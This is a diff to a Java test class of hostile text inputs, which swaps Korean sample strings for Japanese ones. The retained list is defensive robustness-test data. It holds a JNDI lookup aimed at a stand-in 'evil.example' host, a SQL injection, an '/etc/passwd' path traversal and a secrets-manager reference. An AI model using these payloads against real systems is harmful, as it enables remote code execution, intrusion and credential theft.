@@ -62,11 +62,11 @@ class HostileTextsTest {
       "\u202E", "\u2066",
       "\u200B", "\uFEFF", "\u3164", "\u0085", "\u2028", "\r\n", "\n", "\t", "\"", "\\",
       "\\u003c!channel\\u003e", "\"}],\"text\":\"x",
-      "`", "```", "*", "_", "~", "👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "\uD83D", "e\u0301".repeat(20), "ﷺ", "한국어",
+      "`", "```", "*", "_", "~", "👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "\uD83D", "e\u0301".repeat(20), "ﷺ", "日本語",
       "שלום", "مرحبا",
       "%s%n%1$s", "$1", "${jndi:ldap://evil.example}", "{{resolve:secretsmanager:x}}", "' OR 1=1 --",
       "../../etc/passwd", "@channel",
-      "in Korean", "help", "announce", "공지", "Ada", " ");
+      "in English", "help", "announce", "昼食", "Ada", " ");
 
   @RegisterExtension
   final CapturedLog log = new CapturedLog();
